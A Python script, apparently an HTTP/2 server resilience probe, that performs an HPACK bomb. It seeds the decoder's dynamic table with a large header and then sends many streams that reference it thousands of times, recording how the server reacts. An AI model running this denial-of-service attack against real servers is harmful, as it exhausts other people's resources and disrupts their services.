#!/usr/bin/python3
"""HPACK bomb: one request puts a large field in the decoder's dynamic table, then each later request references
it thousands of times in one small header block (16 KiB of block decoding to tens of MiB). Records how each bomb
stream ended (status, RST_STREAM code) and whether the server ended the connection."""
import time

from h2wire import Conn, HeadersFrame, common_args, status_counts

p = common_args(__doc__)
p.add_argument("--value-bytes", type=int, default=4000)
p.add_argument("--refs", type=int, default=16000, help="references per header block")
p.add_argument("--count", type=int, default=1000, help="bomb streams at most")
a = p.parse_args()
c = Conn(a)
c.wait(lambda: c.server_settings, 2)
value = "b" * a.value_bytes
first = c.get("/small.txt", extra=[("x-bomb", value)])
c.wait(lambda: c.streams[first].ended or c.streams[first].reset is not None, 3)
idx = c.enc.header_table.search(b"x-bomb", value.encode())
if not idx or idx[2] is None:
    raise SystemExit("the encoder did not index the field")
ref = bytes([0x80 | idx[0]]) if idx[0] < 127 else None
assert ref is not None
bombs = []
sent = 0
deadline = time.monotonic() + min(a.seconds, 10)
while sent < a.count and not c.ended() and time.monotonic() < deadline:
    sid = c.new_stream_id()
    f = HeadersFrame(sid)
    f.data = c.enc.encode(c.request_headers("/small.txt")) + ref * a.refs
    f.flags.add("END_HEADERS")
    f.flags.add("END_STREAM")
    if not c.send(f):
        break
    bombs.append(sid)
    sent += 1
    c.pump(0)
c.wait(lambda: c.ended() or all(c.streams[s].ended or c.streams[s].reset is not None for s in bombs), 3)
c.report(first_status=c.streams[first].status, bombs_sent=sent, decoded_bytes_per_bomb=a.refs * (a.value_bytes + 6),
         bomb_outcomes=status_counts(c, bombs))
